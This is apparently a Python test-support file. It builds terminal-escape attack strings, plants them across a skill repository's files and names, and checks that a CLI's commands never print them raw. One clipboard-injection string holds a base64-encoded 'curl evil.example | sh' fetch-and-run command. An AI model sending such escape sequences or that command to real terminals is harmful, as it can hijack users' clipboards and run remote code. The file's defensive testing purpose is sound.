"""Hostile text for the terminal attacks and their fuzz (tests/security/test_terminal_*.py):
the characters a terminal acts on, the places a committer can put them (a SKILL.md's
frontmatter and body, ledger lines, a ledger's file name, a scope's folder name), every
command that prints them, and the check that none reaches stdout or stderr raw."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support.helpers import git
from tests.support.hostile import Outcome, invoke

#: One string per attack class; each starts with a character that survives the whitespace
#: folding of one-line summaries, so its escape must show wherever the text is printed.
ATTACKS = {
    "osc-title": "\x1b]0;owned\x07",
    "osc-hyperlink": "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "csi": "\x1b[2J\x1b[1;1H\x1b[8m",
    "c1-csi": "\x9b2J\x9b31m",
    "c1-controls": "\x90q\x9c\x9d0;title\x9c\x85\x8d",
    "c0-controls": "\x07\x08\x08\x08\r\x00\x0b\x0c\x1c",
    "del": "\x7f\x7f\x7f",
    "bidi": "\u202e\u2066txt.exe\u2069\u202c\u200f\u200e\u061c\u202a\u202b\u202d\u2067\u2068",
}
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
#: What may never reach a terminal raw (newline and tab may: text printed as lines).
FORBIDDEN = frozenset(
    {*(chr(c) for c in range(0x20) if chr(c) not in "\n\t"), "\x7f"}
    | {chr(c) for c in range(0x80, 0xA0)}
    | set(BIDI)
)
#: The characters the fuzz mixes into arbitrary text (surrogates added where JSON carries
#: them: YAML refuses them, JSON's escapes do not).
DANGEROUS = sorted(FORBIDDEN | {"\n", "\t"})


def leaked(text: str) -> list[str]:
    """The forbidden characters in ``text``, as U+XXXX (a lone surrogate counts too: it
    would be written as a raw byte)."""
    return sorted({f"U+{ord(c):04X}" for c in text if c in FORBIDDEN or "\ud800" <= c <= "\udfff"})


def shown(attack: str) -> str:
    """How the output filter shows the attack's first character."""
    code = ord(attack[0])
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def yaml_text(text: str) -> str:
    """``text`` as a double-quoted YAML scalar, anything not printable as an escape."""
    out = []
    for ch in text:
        code = ord(ch)
        if ch in '"\\':
            out.append("\\" + ch)
        elif ch.isprintable():
            out.append(ch)
        elif code < 0x100:
            out.append(f"\\x{code:02x}")
        elif code < 0x10000:
            out.append(f"\\u{code:04x}")
        else:
            out.append(f"\\U{code:08x}")
    return '"' + "".join(out) + '"'


def yaml_value(value) -> str:
    """A value in YAML's flow style, its texts double-quoted."""
    if isinstance(value, list):
        return "[" + ", ".join(map(yaml_value, value)) + "]"
    if isinstance(value, dict):
        return "{" + ", ".join(f"{yaml_text(k)}: {yaml_value(v)}" for k, v in value.items()) + "}"
    return yaml_text(value)


def skill_file(fields: dict, body: str) -> str:
    """A SKILL.md of ``fields`` (every value written with escapes) and ``body``."""
    lines = [f"{key}: {yaml_value(value)}" for key, value in fields.items()]
    return "---\n" + "\n".join(lines) + "\n---\n" + body


def hostile_fields(text: str) -> dict:
    """Every frontmatter field a command prints, each carrying ``text``."""
    return {
        "name": "world",
        "description": f"Greets the world {text} politely.",
        "license": text,
        "compatibility": f"any {text}",
        "tags": ["greeting", text],
        "metadata": {"team": text},
        "links": {"uses_skill": ["skill:hello"], "uses_tool": [text]},
    }


def file_name(text: str) -> str:
    """``text`` as a file or folder name (no '/', no NUL; never empty, '.' or '..')."""
    name = text.replace("/", "").replace("\x00", "")[:100]
    return name if name.strip(".") else f"x{name}"


def ledger_lines(text: str, *, host: str | None = None, agent: str | None = None) -> str:
    """Lines someone wrote by hand into alice's ledger, carrying ``text`` in every free
    field: a calibration with host, agent and note, a comment, a use by an agent, a vote
    whose value is text (which does not count, and is reported)."""
    host = text if host is None else host
    agent = text if agent is None else agent
    base = {"ts": "2026-01-01T00:00:00.000Z", "skill": "skill:world@global", "by": "alice"}
    lines = [
        {**base, "kind": "calibration", "value": True, "host": host, "agent": agent, "note": text},
        {**base, "kind": "comment", "value": f"see {text}", "id": "c-0123456789ab"},
        {**base, "kind": "usage", "value": 1, "auto": True, "host": "laptop", "agent": agent},
        {**base, "kind": "vote", "value": text, "host": "laptop"},
    ]
    return "".join(json.dumps(line) + "\n" for line in lines)


def plant(root: Path, text: str) -> None:
    """``text`` everywhere a committer can put it: the always skill ``world``'s frontmatter
    and body, alice's ledger (and a ledger named with it), a scope folder named with it."""
    (root / "skills/world/SKILL.md").write_text(
        skill_file(hostile_fields(text), f"Body {text}\nline two\n"), encoding="utf-8"
    )
    ledgers = root / "signals/alice"
    ledgers.mkdir(parents=True, exist_ok=True)
    (ledgers / "laptop.jsonl").write_text(ledger_lines(text), encoding="utf-8")
    (ledgers / f"{file_name(text)}.jsonl").write_text("not a ledger line\n", encoding="utf-8")
    scope = root / "groups" / file_name(text)
    (scope / "skills/odd").mkdir(parents=True, exist_ok=True)
    (scope / "AGENTS.md").write_text("# a scope\n", encoding="utf-8")
    (scope / "skills.json").write_text(
        json.dumps({"skills": [{"name": "odd", "owner": "bob", "tier": "optional"}]}),
        encoding="utf-8",
    )
    (scope / "skills/odd/SKILL.md").write_text(
        skill_file({"name": "odd", "description": f"Odd {text}"}, "Odd.\n"), encoding="utf-8"
    )


def commit(root: Path, message: str) -> str:
    git(root, "add", "-A")
    git(root, "commit", "-q", "--allow-empty", "-m", message)
    return git(root, "rev-parse", "HEAD").strip()


TASK = "greets the world"
#: Every command that prints what a file holds, in each of its output forms. ``{base}`` is
#: the commit before the attack (for events); ``terminal`` ones run as on a terminal (rich).
COMMANDS = {
    "status": ["skills-status"],
    "status-terminal": ["skills-status"],
    "status-plain": ["skills-status", "--plain"],
    "status-prompt": ["skills-status", "--format", "prompt"],
    "status-json": ["skills-status", "--json"],
    "all": ["skills-status", "--all"],
    "all-terminal": ["skills-status", "--all"],
    "all-plain": ["skills-status", "--all", "--plain"],
    "all-json": ["skills-status", "--all", "--json"],
    "show": ["exobrain", "show", "skill:world"],
    "show-json": ["exobrain", "show", "skill:world", "--json"],
    "get": ["exobrain", "get", "skill:world"],
    "get-json": ["exobrain", "get", "skill:world", "--json"],
    "list": ["exobrain", "list"],
    "list-json": ["exobrain", "list", "--json"],
    "links": ["exobrain", "links", "skill:world"],
    "links-json": ["exobrain", "links", "skill:world", "--json"],
    "search": ["exobrain", "search", "--lexical", "--all-scopes", "greets", "world", "odd"],
    "search-json": ["exobrain", "search", "--lexical", "greets", "world", "--json"],
    "discover": ["exobrain", "discover", "--lexical", "--task", TASK],
    "discover-prompt": ["exobrain", "discover", "--lexical", "--task", TASK, "--format", "prompt"],
    "discover-json": ["exobrain", "discover", "--lexical", "--task", TASK, "--json"],
    "events": ["exobrain", "events", "--since", "{base}"],
    "events-json": ["exobrain", "events", "--since", "{base}", "--json"],
    "quality": ["exobrain", "quality"],
    "quality-json": ["exobrain", "quality", "--json"],
    "signals": ["exobrain", "signals", "skill:world"],
    "signals-json": ["exobrain", "signals", "skill:world", "--json"],
}


def run(root: Path, command: str, base: str) -> Outcome:
    """Run one of :data:`COMMANDS` in-process (a traceback fails the test)."""
    argv = [arg.replace("{base}", base) for arg in COMMANDS[command]]
    if not command.endswith("-terminal"):
        return invoke(root, argv)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("exobrain.cli.status.stdout_is_terminal", lambda: True)
        patch.setenv("COLUMNS", "400")  # rich's table: wide enough to show every cell whole
        return invoke(root, argv)
